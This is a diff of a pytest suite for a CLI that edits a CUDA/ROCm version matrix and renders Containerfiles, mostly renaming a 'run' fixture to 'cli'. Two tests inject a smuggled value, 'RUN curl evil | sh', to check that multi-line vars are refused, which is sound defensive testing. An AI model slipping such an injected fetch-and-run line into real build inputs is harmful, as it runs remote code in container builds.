@@ -19,11 +19,6 @@ def project(tmp_path: Path) -> Path:
     """The edits are tried on a copy of the shipped project."""
     return shipped_project(tmp_path)
 
-
-@pytest.fixture
-def run(cli):  # type: ignore[no-untyped-def]
-    return cli
-
 CUDA_VARS = ("--var", "cudart=12.10.37-1", "--var", "cuda_libraries=12.10.1-1")
 
 
@@ -51,10 +46,10 @@ def commented(project: Path) -> Path:
     return path
 
 
-def test_add_version_keeps_every_comment_and_unrelated_line(project, commented, run):
+def test_add_version_keeps_every_comment_and_unrelated_line(project, commented, cli):
     before = commented.read_text()
-    first = run("--matrix", str(commented), "add-version", "rocm", "6.5.0")
-    second = run("--matrix", str(commented), "add-version", "cuda", "12.10.1",
+    first = cli("--matrix", str(commented), "add-version", "rocm", "6.5.0")
+    second = cli("--matrix", str(commented), "add-version", "cuda", "12.10.1",
                  "--native-driver", "580.65.06", "--eol", "2028-06-30", *CUDA_VARS)
     assert first.code == 0 and second.code == 0, first.err + second.err
     after = commented.read_text()
@@ -81,11 +76,11 @@ def test_add_version_keeps_every_comment_and_unrelated_line(project, commented, 
         assert containerfile.is_file(), containerfile
     assert "cuda-cudart-12-10-12.10.37-1" in \
         (project / "containerfiles/builder/cuda-12.10-ubi9/Containerfile").read_text()
-    assert run("--matrix", str(commented), "render", "--check").code == 0
+    assert cli("--matrix", str(commented), "render", "--check").code == 0
 
 
-def test_add_version_prints_images_and_registry_request(project, run):
-    result = run("--matrix", str(matrix_file(project)), "add-version", "cuda", "12.10.1",
+def test_add_version_prints_images_and_registry_request(project, cli):
+    result = cli("--matrix", str(matrix_file(project)), "add-version", "cuda", "12.10.1",
                  *CUDA_VARS)
     assert result.code == 0, result.err
     for reference in ("quay.io/aipcc/builder/cuda-12.10-ubi9:3.0-dev",
@@ -105,11 +100,11 @@ def test_add_version_prints_images_and_registry_request(project, run):
     assert "variant cuda12.10-ubi9" in indexes
 
 
-def test_add_version_to_the_demo_names_the_wheel_list_section(tmp_path, run):
+def test_add_version_to_the_demo_names_the_wheel_list_section(tmp_path, cli):
     """The demo's indexes are published here from matrix/demo-wheels.txt: a new variant
     needs its own section there, or the build finds no wheel."""
     shipped_project(tmp_path)
-    result = run("--matrix", str(tmp_path / "matrix/demo.yaml"), "add-version", "cuda",
+    result = cli("--matrix", str(tmp_path / "matrix/demo.yaml"), "add-version", "cuda",
                  "13.0.1")
     assert result.code == 0, result.err
     assert "http://127.0.0.1:8580/1.0/cuda13.0-debian/simple/" in result.out
@@ -131,11 +126,11 @@ def test_add_version_to_the_demo_names_the_wheel_list_section(tmp_path, run):
     (("cuda", "12.10.1"), "--var NAME=VALUE"),
     (("cuda", "12.10.1", "--var", "no-equals"), "is not NAME=VALUE"),
 ])
-def test_refused_add_version_leaves_everything_byte_identical(project, run, args, message):
+def test_refused_add_version_leaves_everything_byte_identical(project, cli, args, message):
     path = matrix_file(project)
     before = path.read_bytes()
     files_before = sorted((project / "containerfiles").rglob("*"))
-    result = run("--matrix", str(path), "add-version", *args)
+    result = cli("--matrix", str(path), "add-version", *args)
     assert result.code == 2
     assert message in result.err
     assert "Traceback" not in result.err
@@ -144,21 +139,21 @@ def test_refused_add_version_leaves_everything_byte_identical(project, run, args
     assert not [p for p in path.parent.iterdir() if p.name.endswith(".tmp")]
 
 
-def test_retire_sets_eol_on_one_line(project, run):
+def test_retire_sets_eol_on_one_line(project, cli):
     path = matrix_file(project)
     before = path.read_text()
-    assert run("--matrix", str(path), "retire", "cuda", "12.8.1", "--eol", "2026-12-31").code == 0
-    assert run("--matrix", str(path), "retire", "rocm", "6.3.4", "--eol", "2026-03-31").code == 0
+    assert cli("--matrix", str(path), "retire", "cuda", "12.8.1", "--eol", "2026-12-31").code == 0
+    assert cli("--matrix", str(path), "retire", "rocm", "6.3.4", "--eol", "2026-03-31").code == 0
     removed, added = changed_lines(before, path.read_text())
     assert removed == ["        eol: 2027-01-31", "      - {version: 6.3.4}"]
     assert added == ["        eol: 2026-12-31", "      - {version: 6.3.4, eol: 2026-03-31}"]
     assert str(load(path).accelerators["rocm"].versions[1].eol) == "2026-03-31"
 
 
-def test_retire_remove_deletes_the_entry_and_its_containerfiles(project, run):
+def test_retire_remove_deletes_the_entry_and_its_containerfiles(project, cli):
     path = matrix_file(project)
     before = path.read_text()
-    result = run("--matrix", str(path), "retire", "cuda", "12.8.1", "--remove")
+    result = cli("--matrix", str(path), "retire", "cuda", "12.8.1", "--remove")
     assert result.code == 0, result.err
     removed, added = changed_lines(before, path.read_text())
     assert added == []
@@ -170,7 +165,7 @@ def test_retire_remove_deletes_the_entry_and_its_containerfiles(project, run):
         assert not (project / "containerfiles" / kind / name).exists()
         assert f"removed: {project}/containerfiles/{kind}/{name}/Containerfile" in result.out
     assert (project / "containerfiles/builder/cuda-12.9-ubi9/Containerfile").is_file()
-    assert run("--matrix", str(path), "render", "--check").code == 0
+    assert cli("--matrix", str(path), "render", "--check").code == 0
 
 
 @pytest.mark.parametrize("args, message", [
@@ -180,36 +175,36 @@ def test_retire_remove_deletes_the_entry_and_its_containerfiles(project, run):
     (("cuda", "12.8.1", "--eol", "2026-01-01", "--remove"), "--remove deletes"),
     (("rocmm", "6.3.4", "--remove"), "did you mean 'rocm'"),
 ])
-def test_refused_retire_leaves_the_file_byte_identical(project, run, args, message):
+def test_refused_retire_leaves_the_file_byte_identical(project, cli, args, message):
     path = matrix_file(project)
     before = path.read_bytes()
-    result = run("--matrix", str(path), "retire", *args)
+    result = cli("--matrix", str(path), "retire", *args)
     assert result.code == 2
     assert message in result.err
     assert path.read_bytes() == before
 
 
-def test_retire_refuses_to_remove_the_last_version(project, run):
+def test_retire_refuses_to_remove_the_last_version(project, cli):
     path = matrix_file(project)
-    assert run("--matrix", str(path), "retire", "rocm", "6.3.4", "--remove").code == 0
+    assert cli("--matrix", str(path), "retire", "rocm", "6.3.4", "--remove").code == 0
     before = path.read_bytes()
-    result = run("--matrix", str(path), "retire", "rocm", "6.4.1", "--remove")
+    result = cli("--matrix", str(path), "retire", "rocm", "6.4.1", "--remove")
     assert result.code == 2 and "last version of rocm" in result.err
     assert path.read_bytes() == before
 
 
-def test_only_selects_by_name_or_key(project, run):
+def test_only_selects_by_name_or_key(project, cli):
     path = str(matrix_file(project))
-    by_key = run("--matrix", path, "list", "--json", "--only", "base/cuda-12.8-el9.6")
-    by_name = run("--matrix", path, "list", "--json", "--only", "cuda-12.8-el9.6")
+    by_key = cli("--matrix", path, "list", "--json", "--only", "base/cuda-12.8-el9.6")
+    by_name = cli("--matrix", path, "list", "--json", "--only", "cuda-12.8-el9.6")
     assert by_key.out.count('"key"') == 1 and '"base/cuda-12.8-el9.6"' in by_key.out
     assert by_name.out.count('"key"') == 2  # the base and the devel image of that cell
 
 
-def test_add_version_reads_rpm_versions_from_the_component_table(project, run):
+def test_add_version_reads_rpm_versions_from_the_component_table(project, cli):
     path = matrix_file(project)
     before = path.read_text()
-    result = run("--matrix", str(path), "add-version", "cuda", "13.0.1",
+    result = cli("--matrix", str(path), "add-version", "cuda", "13.0.1",
                  "--native-driver", "580.82.07", "--eol", "2028-01-31")
     assert result.code == 0, result.err
     removed, added = changed_lines(before, path.read_text())
@@ -225,10 +220,10 @@ def test_add_version_reads_rpm_versions_from_the_component_table(project, run):
     assert "NV_CUDA_CUDART_VERSION=13.0.88-1" in base
 
 
-def test_add_version_names_the_values_a_release_unknown_to_the_table_needs(project, run):
+def test_add_version_names_the_values_a_release_unknown_to_the_table_needs(project, cli):
     path = matrix_file(project)
     before = path.read_bytes()
-    result = run("--matrix", str(path), "add-version", "cuda", "12.10.1",
+    result = cli("--matrix", str(path), "add-version", "cuda", "12.10.1",
                  "--native-driver", "580.65.06", "--eol", "2028-06-30")
     assert result.code == 2
     assert "--var NAME=VALUE" in result.err
@@ -237,30 +232,30 @@ def test_add_version_names_the_values_a_release_unknown_to_the_table_needs(proje
     assert path.read_bytes() == before
 
 
-def test_matrix_vars_override_the_component_table(project, run):
+def test_matrix_vars_override_the_component_table(project, cli):
     path = matrix_file(project)
     path.write_text(path.read_text().replace(
         "        eol: 2027-06-30\n",
         "        eol: 2027-06-30\n        vars: {cudart: 12.9.37-1}\n", 1))
-    result = run("--matrix", str(path), "render")
+    result = cli("--matrix", str(path), "render")
     assert result.code == 0, result.err
     base = (project / "containerfiles" / "base" / "cuda-12.9-el9.6" / "Containerfile").read_text()
     assert "cuda-cudart-12-9-12.9.37-1 \\" in base  # the matrix's value
     assert "cuda-libraries-12-9-12.9.1-1 \\" in base  # the table's value
 
 
-def test_shipped_containerfiles_match_the_component_table(project, run):
+def test_shipped_containerfiles_match_the_component_table(project, cli):
     # matrix/aipcc.yaml lists no RPM versions; the committed files carry the table's.
-    result = run("--matrix", str(matrix_file(project)), "render", "--check")
+    result = cli("--matrix", str(matrix_file(project)), "render", "--check")
     assert result.code == 0, result.err
     base = (project / "containerfiles" / "base" / "cuda-12.8-el9.6" / "Containerfile").read_text()
     assert "cuda-cudart-12-8-12.8.90-1 \\" in base
 
 
-def test_add_version_vars_keep_the_value_typed(project, run):
+def test_add_version_vars_keep_the_value_typed(project, cli):
     """issue 16.7: `on` and `1:20` stay text (YAML 1.1 would read true and 80)."""
     path = matrix_file(project)
-    result = run("--matrix", str(path), "add-version", "cuda", "12.10.1",
+    result = cli("--matrix", str(path), "add-version", "cuda", "12.10.1",
                  "--var", "cudart=on", "--var", "cuda_libraries=1:20", "--var", "n=3",
                  "--var", "flag=true", "--var", "octal=0o17", "--var", "word=yes")
     assert result.code == 0, result.err
@@ -272,14 +267,14 @@ def test_add_version_vars_keep_the_value_typed(project, run):
     assert "cuda-cudart-12-10-on" in rendered.read_text()
 
 
-def test_add_version_on_a_symlinked_matrix_edits_the_target_and_keeps_its_mode(project, run):
+def test_add_version_on_a_symlinked_matrix_edits_the_target_and_keeps_its_mode(project, cli):
     """issue 16.10"""
     link = matrix_file(project)
     target = link.with_name("aipcc-real.yaml")
     link.rename(target)
     link.symlink_to(target.name)
     target.chmod(0o640)
-    result = run("--matrix", str(link), "add-version", "cuda", "12.10.1", *CUDA_VARS)
+    result = cli("--matrix", str(link), "add-version", "cuda", "12.10.1", *CUDA_VARS)
     assert result.code == 0, result.err
     assert link.is_symlink() and os.readlink(link) == target.name
     assert "12.10.1" in target.read_text()
@@ -301,13 +296,13 @@ def test_write_atomic_removes_its_temp_file_when_the_rename_fails(tmp_path, monk
 
 # ---- issue 22.11: a value that reaches a Containerfile is one line, written as given -------
 
-def test_a_matrix_var_holding_a_newline_is_refused_where_it_is(project, run):
+def test_a_matrix_var_holding_a_newline_is_refused_where_it_is(project, cli):
     path = matrix_file(project)
     text = path.read_text()
     assert "cudnn: 9.8.0.87" in text
     path.write_text(text.replace("cudnn: 9.8.0.87", 'cudnn: "9.8.0.87\\nRUN curl evil | sh"'))
     line = next(n for n, t in enumerate(path.read_text().splitlines(), 1) if "RUN curl" in t)
-    result = run("--matrix", str(path), "render")
+    result = cli("--matrix", str(path), "render")
     assert result.code == 2, result.err
     assert "Traceback" not in result.err
     assert f"{path}:{line}:" in result.err and ".vars.cudnn" in result.err, result.err
@@ -315,10 +310,10 @@ def test_a_matrix_var_holding_a_newline_is_refused_where_it_is(project, run):
 
 
 @pytest.mark.parametrize("value", ["12.10.37-1\nRUN curl evil | sh", "a\rb"])
-def test_add_version_refuses_a_var_of_several_lines(project, run, value):
+def test_add_version_refuses_a_var_of_several_lines(project, cli, value):
     path = matrix_file(project)
     before = path.read_text()
-    result = run("--matrix", str(path), "add-version", "cuda", "12.10.1",
+    result = cli("--matrix", str(path), "add-version", "cuda", "12.10.1",
                  "--var", f"cudart={value}", "--var", "cuda_libraries=12.10.1-1")
     assert result.code == 2, result.err
     assert "--var" in result.err and "one line" in result.err, result.err
@@ -326,9 +321,9 @@ def test_add_version_refuses_a_var_of_several_lines(project, run, value):
 
 
 @pytest.mark.parametrize("value", [" padded ", "a  b", "#not-a-comment", "x # y", "'q'"])
-def test_add_version_writes_a_var_exactly_as_given(project, run, value):
+def test_add_version_writes_a_var_exactly_as_given(project, cli, value):
     path = matrix_file(project)
-    result = run("--matrix", str(path), "add-version", "cuda", "12.10.1",
+    result = cli("--matrix", str(path), "add-version", "cuda", "12.10.1",
                  "--var", f"cudart={value}", "--var", "cuda_libraries=12.10.1-1")
     assert result.code == 0, result.err
     (entry,) = [v for v in load(str(path)).accelerators["cuda"].versions
@@ -336,9 +331,9 @@ def test_add_version_writes_a_var_exactly_as_given(project, run, value):
     assert entry.vars["cudart"] == value
 
 
-def test_retire_takes_a_prefix_naming_one_version(project, run):
+def test_retire_takes_a_prefix_naming_one_version(project, cli):
     """`retire cuda 12.8` as every other command reads 12.8: the version 12.8.1."""
-    result = run("--matrix", str(matrix_file(project)), "retire", "cuda", "12.8",
+    result = cli("--matrix", str(matrix_file(project)), "retire", "cuda", "12.8",
                  "--eol", "2026-12-31")
     assert result.code == 0, result.err
     assert "End of life 2026-12-31 for cuda 12.8.1" in result.out
@@ -346,9 +341,9 @@ def test_retire_takes_a_prefix_naming_one_version(project, run):
         == "2026-12-31"
 
 
-def test_retire_refuses_a_prefix_naming_several_versions(project, run):
+def test_retire_refuses_a_prefix_naming_several_versions(project, cli):
     before = matrix_file(project).read_text()
-    result = run("--matrix", str(matrix_file(project)), "retire", "cuda", "12", "--remove")
+    result = cli("--matrix", str(matrix_file(project)), "retire", "cuda", "12", "--remove")
     assert result.code == 2
     assert "12 names 12.9.1 and 12.8.1 of cuda: give one of them" in result.err
     assert matrix_file(project).read_text() == before
